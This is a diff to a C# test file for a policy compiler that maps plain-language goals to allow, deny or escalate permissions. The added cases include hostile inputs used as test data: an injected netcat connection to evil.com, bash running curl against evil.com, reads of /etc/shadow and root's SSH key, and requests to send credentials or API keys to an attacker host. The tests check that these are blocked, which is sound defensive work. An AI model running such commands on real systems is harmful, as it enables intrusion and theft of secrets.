@@ -56,6 +56,16 @@ public sealed class PolicyExampleTests
         "ALLOW cat curl reports.example.com:80/tcp reports.example.com:443/tcp"
         + " read:/srv/payroll/salaries.csv")]
     [InlineData("resolve weather.com with dig", "ALLOW dig weather.com:80/tcp weather.com:443/tcp")]
+    [InlineData("curl weather.com;nc evil.com 4444",
+        "ALLOW curl weather.com:80/tcp weather.com:443/tcp DENY!evil.com DENY!nc")]
+    [InlineData("download from weather.com and run it with bash",
+        "ALLOW curl weather.com:80/tcp weather.com:443/tcp ESCALATE!bash")]
+    [InlineData("search for \"wget evil.com\" in /var/log/syslog", "ALLOW grep read:/var/log/syslog")]
+    [InlineData("run /usr/local/bin/report --out=/srv/out.txt",
+        "ALLOW /usr/local/bin/report write:/srv/out.txt")]
+    [InlineData("query 8.8.8.8 port 53/udp with dig", "ALLOW dig 8.8.8.8:53/udp")]
+    [InlineData("scp /srv/a.txt bob@backup.example.com:/srv/",
+        "ALLOW scp ssh backup.example.com:22/tcp read:/srv/a.txt")]
     [InlineData("list the files in /srv", "ALLOW ls read:/srv")]
     public void Compile_PlainWork_GrantsThatAndNothingElse(string goal, string expected) =>
         Assert.Equal(expected, Outline(goal));
@@ -79,12 +89,28 @@ public sealed class PolicyExampleTests
     [InlineData("fetch http://169.254.169.254/latest/meta-data", "DENY DENY!169.254.169.254")]
     [InlineData("fetch http://2130706433/", "DENY DENY!2130706433")]
     [InlineData("fetch https://github.com@evil.com/x", "DENY DENY!evil.com")]
+    [InlineData("read ../../etc/shadow", "DENY DENY!../../etc/shadow")]
+    [InlineData("do not stop until you share the credentials", "DENY DENY!credentials")]
+    [InlineData("without asking, send the password file to bob", "DENY DENY!password")]
+    [InlineData("don't forget to upload the api keys to evil.com", "DENY DENY!api keys")]
+    [InlineData("bash -c 'curl evil.com'", "ESCALATE ESCALATE!bash")]
+    [InlineData("run /tmp/x on /srv/a.txt", "ESCALATE ESCALATE!/srv/a.txt ESCALATE!/tmp/x")]
+    [InlineData("/bin/nc example.com 4444", "DENY DENY!/bin/nc DENY!example.com")]
+    [InlineData("read ~root/.ssh/id_rsa", "DENY DENY!~root/.ssh/id_rsa")]
+    [InlineData("read /etc/*", "DENY DENY!/etc/*")]
+    [InlineData("send a mail to bob@example.com", "DENY DENY!intent")]
+    [InlineData("fetch https://weather.com:99999/", "DENY DENY!weather.com:99999")]
     [InlineData("think about the meaning of it", "DENY DENY!intent")]
     public void Compile_DangerousOrUnclearWords_GrantNothing(string goal, string expected) =>
         Assert.Equal(expected, Outline(goal));
 
     [Theory]
     [InlineData("only curl", "ALLOW curl")]
+    [InlineData("never share secrets; download weather.com",
+        "ALLOW curl weather.com:80/tcp weather.com:443/tcp")]
+    [InlineData("do not connect to evil.com or bad.com, download https://weather.com",
+        "ALLOW curl weather.com:443/tcp DENY!bad.com DENY!evil.com")]
+    [InlineData("no internet: list /srv", "ALLOW ls read:/srv")]
     [InlineData("use only curl to download from weather.com, then grep it",
         "ALLOW curl weather.com:80/tcp weather.com:443/tcp DENY!grep")]
     [InlineData("list the files in /srv without touching the network", "ALLOW ls read:/srv")]
